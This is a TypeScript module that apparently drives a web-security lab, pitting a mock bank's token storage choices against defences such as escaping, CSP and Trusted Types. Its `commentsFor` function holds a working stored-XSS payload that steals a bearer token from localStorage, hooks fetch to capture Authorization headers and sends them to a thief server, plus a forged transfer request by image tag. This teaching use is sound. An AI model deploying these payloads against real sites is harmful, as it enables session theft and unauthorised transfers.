/** A row of the matrix: where the bank’s page keeps the token. `switches` are those of apps/bank/README.md. */
export const places = [
  {
    name: 'storage',
    title: 'localStorage',
    text: 'the token in localStorage',
    switches: { token: 'storage' },
  },
  { name: 'memory', title: 'variable', text: 'the token in a variable', switches: { token: 'memory' } },
  {
    name: 'cookie',
    title: 'HttpOnly cookie',
    text: 'the token in an HttpOnly cookie',
    switches: { carrier: 'strict' },
  },
] as const;
type Place = (typeof places)[number];

/** A column of the matrix: a switch of the bank’s page. */
export const defences = [
  { name: 'none', title: 'None', text: 'no defence', switches: {} },
  { name: 'escape', title: 'Escaping', text: 'escaping', switches: { escape: 'on' } },
  { name: 'csp', title: 'CSP', text: 'a Content-Security-Policy', switches: { csp: 'on' } },
  {
    name: 'trusted-types',
    title: 'Trusted Types',
    text: 'Trusted Types',
    switches: { 'trusted-types': 'on' },
  },
] as const;
export type Defence = (typeof defences)[number];

/** The comments that the thief can publish, as a student can change them. */
export const commentNames = ['script', 'image'] as const;
export type CommentName = (typeof commentNames)[number];
export type Comments = Readonly<Record<CommentName, string>>;
export const commentTitles = {
  script: 'Script',
  image: 'Image',
} as const satisfies Record<CommentName, string>;

/** Stands for the student in the text of a comment. */
const studentHere = 'student=…';

/** Returns the comments of the lab. `thief` is the origin of the thief’s server. */
export const commentsFor = (thief: string): Comments => ({
  script: `Nice bank! <img src="/none" onerror="
  const send = (text) => fetch('${thief}/collect?${studentHere}',
    { method: 'POST', mode: 'no-cors', body: text });
  const token = localStorage.getItem('bank-token');
  if (token) send(token);
  else {
    // No token to read: listen to the page, and pay.
    const real = window.fetch;
    window.fetch = (to, how) => {
      if (how?.headers?.Authorization) send(how.headers.Authorization);
      return real(to, how);
    };
    real('/v1/labs/bank/transfer', { method: 'POST',
      body: new URLSearchParams({ to: 'mallory', amount: 100 }) });
  }">`,
  image: `Nice bank! <img
  src="/v1/labs/bank/transfer?to=mallory&amount=100">`,
});

/** Returns a comment as it is published for a student. */
export const commentFor = (text: string, student: string): string =>
  text.replaceAll(studentHere, `student=${student}`);

export type CellId = { readonly comment: CommentName; readonly place: Place; readonly defence: Defence };

/** The label of the requests of a cell. The bank’s page has it in its address. */
export const markOf = ({ comment, place, defence }: CellId): string =>
  `${comment}.${place.name}.${defence.name}`;
/** The label of the requests that publish a comment. */
export const publishMark = 'publish';
/** The label of the last request of a window. */
export const endMark = 'end';

/** All cells, in the order in which a run tries them. */
export const allCells: readonly CellId[] = commentNames.flatMap((comment) =>
  places.flatMap((place) => defences.map((defence) => ({ comment, place, defence }))),
);

/** The cell of step 2: no defence, and the token in localStorage. */
export const firstCell: CellId = { comment: 'script', place: places[0], defence: defences[0] };

/** A page of the bank in a run (apps/bank/pages/run.js). `text` is a comment to publish there. */
export type PageOfRun = { readonly search: string; readonly text?: string };

/** Mallory’s page, which publishes a comment in a bank that is as at the start, and shows it as text. */
export function publishing(text: string, student: string): PageOfRun {
  const switches = { as: 'mallory', token: 'memory', defence: 'none', escape: 'on' };
  return { search: searchOf(student, publishMark, switches), text: commentFor(text, student) };
}

/** Ada’s page, which shows the comments with the switches of a cell. */
export const reading = (cell: CellId, student: string): PageOfRun => ({
  search: searchOf(student, markOf(cell), { as: 'ada', ...cell.place.switches, ...cell.defence.switches }),
});

/** The pages of a run: each comment is published once, and then read in each of its cells. */
export const pagesOf = (cells: readonly CellId[], comments: Comments, student: string): PageOfRun[] =>
  commentNames.flatMap((comment) => {
    const own = cells.filter((cell) => cell.comment === comment);
    if (own.length === 0) return [];
    return [publishing(comments[comment], student), ...own.map((cell) => reading(cell, student))];
  });

/** The bank keeps the beginning of a page’s address with an arrival, so student and label come first. */
const searchOf = (student: string, mark: string, switches: Readonly<Record<string, string>>): string =>
  new URLSearchParams({ student, mark, ...switches }).toString();

/** Returns the path of the first page. The plan of the others is in the hash, which no server receives. */
export function pathOf(steps: readonly PageOfRun[], pauseMs: number): { path: string; hash: string } {
  const hash = encodeURIComponent(JSON.stringify({ steps, at: 0, pauseMs }));
  return { path: `/comments/?${steps[0]?.search ?? ''}`, hash: `#run=${hash}` };
}
